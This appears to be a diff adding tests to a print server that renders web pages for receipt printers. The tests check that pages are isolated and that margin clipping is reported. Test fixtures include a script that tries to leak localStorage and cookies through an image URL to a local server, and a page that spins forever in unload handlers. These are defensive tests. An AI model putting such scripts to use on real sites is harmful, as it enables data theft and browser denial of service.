@@ -15,6 +15,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from
 import type { Subscription } from "../../lib/model/subscription.ts";
 import { fileStore, type StateStore } from "../../lib/platform/stores/state-store.ts";
 import { Renderers } from "../../scripts/print/escpos-print.ts";
+import { PAGE_TIMEOUT_MS } from "../../scripts/preview/render.ts";
 import { readPrintersConfig, runHomePrinters, type HomePrinter } from "../../scripts/print/home-printers.ts";
 import { main } from "../../scripts/print-server.ts";
 import { workerBrowser } from "../helpers/browser.ts";
@@ -188,6 +189,122 @@ describe("print-server runs", () => {
 });
 
 /** A publication whose every edition has the same ETag (a spec-following one may: the same page). */
+/** A publication at an origin of its own whose edition is `html`; the paths it was asked for. */
+async function onePagePublication(html: (origin: string) => string): Promise<{
+  url: string;
+  origin: string;
+  asked: string[];
+  close(): Promise<void>;
+}> {
+  const asked: string[] = [];
+  let origin = "";
+  const server: Server = createServer((req, res) => {
+    asked.push(req.url ?? "");
+    if (req.url === "/pub/meta.json") {
+      res.writeHead(200, { "Content-Type": "application/json" });
+      return res.end(JSON.stringify({ name: "One page" }));
+    }
+    if (req.url?.startsWith("/pub/edition/")) {
+      res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", ETag: `"${Date.now()}"` });
+      return res.end(html(origin));
+    }
+    res.writeHead(404).end();
+  });
+  server.keepAliveTimeout = 100;
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return {
+    url: `${origin}/pub/`,
+    origin,
+    asked,
+    close: () =>
+      new Promise<void>((resolve) => {
+        server.closeAllConnections();
+        server.close(() => resolve());
+      }),
+  };
+}
+
+/** The printers subscribed before 06:00 on 23 November, then their delivery at 06:05: its statuses. */
+async function firstDelivery(printers: HomePrinter[]) {
+  await runHomePrinters(printers, { store, renderers, at: new Date("2026-11-23T05:00:00Z"), retries: 0 });
+  return runHomePrinters(printers, { store, renderers, at: new Date("2026-11-23T06:05:00Z"), retries: 0 });
+}
+
+/** Printers on the fake printer, one a publication, in this order. */
+function printersFor(publications: string[]): HomePrinter[] {
+  const config = readPrintersConfig({
+    printers: publications.map((publication, i) => ({
+      id: `p${i}`,
+      to: printer.url,
+      publication,
+      hour: 6,
+      zone: "UTC",
+    })),
+  });
+  if ("problems" in config) throw new Error(config.problems.join("; "));
+  return config.printers;
+}
+
+describe("publications kept apart in print-server", () => {
+  it("gives each publication's page its own storage: one cannot read what another left", async () => {
+    const a = await onePagePublication(
+      () => "<p>A</p><script>localStorage.setItem('secret', 'from-a'); document.cookie = 'c=from-a';</script>",
+    );
+    const b = await onePagePublication(
+      (origin) =>
+        "<p>B</p><script>document.write('<img src=\"" +
+        origin +
+        "/seen?v=' + localStorage.getItem('secret') + '&c=' + encodeURIComponent(document.cookie) + '\">');</script>",
+    );
+    try {
+      const printers = printersFor([a.url, b.url]);
+      const statuses = await firstDelivery(printers);
+      expect(statuses.map((st) => st.outcome)).toEqual(["printed", "printed"]);
+      expect(b.asked.filter((p) => p.startsWith("/seen"))).toEqual(["/seen?v=null&c="]);
+    } finally {
+      await a.close();
+      await b.close();
+    }
+  }, 60_000);
+
+  it("does not let a page left spinning hold up the next publication's print", async () => {
+    // It prints, then spins when it is left (a timer, its pagehide and its unload never end), as a hostile page would.
+    const spin = "function () { for (;;) {} }";
+    const spinner = await onePagePublication(
+      () =>
+        `<p>Spin</p><script>setTimeout(${spin}, 1500); addEventListener("pagehide", ${spin}); ` +
+        `addEventListener("unload", ${spin});</script>`,
+    );
+    const next = await onePagePublication(() => "<p>Next</p>");
+    try {
+      const printers = printersFor([spinner.url, next.url]);
+      const started = performance.now();
+      const statuses = await firstDelivery(printers);
+      expect(statuses.map((st) => st.outcome)).toEqual(["printed", "printed"]);
+      // A page load's own limit (20 s) was not spent waiting on the spinning page: the next one loaded at once.
+      expect(performance.now() - started).toBeLessThan(PAGE_TIMEOUT_MS);
+    } finally {
+      await spinner.close();
+      await next.close();
+    }
+  }, 90_000);
+
+  it("says a page wider than the paper is clipped, as print says it", async () => {
+    const wide = await onePagePublication(() => '<div style="width: 5000px">A very wide page</div>');
+    try {
+      const printers = printersFor([wide.url]);
+      const [status] = await firstDelivery(printers);
+      expect(status!.outcome).toBe("printed");
+      expect(status!.line).toMatch(
+        /, 384x\d+ dots \(the page is wider than the paper's 384 px: what lies right of that is not printed\)$/,
+      );
+    } finally {
+      await wide.close();
+    }
+  }, 60_000);
+});
+
 async function sameEtagPublication(): Promise<{ url: string; asked: string[]; close(): Promise<void> }> {
   const asked: string[] = [];
   const server: Server = createServer((req, res) => {
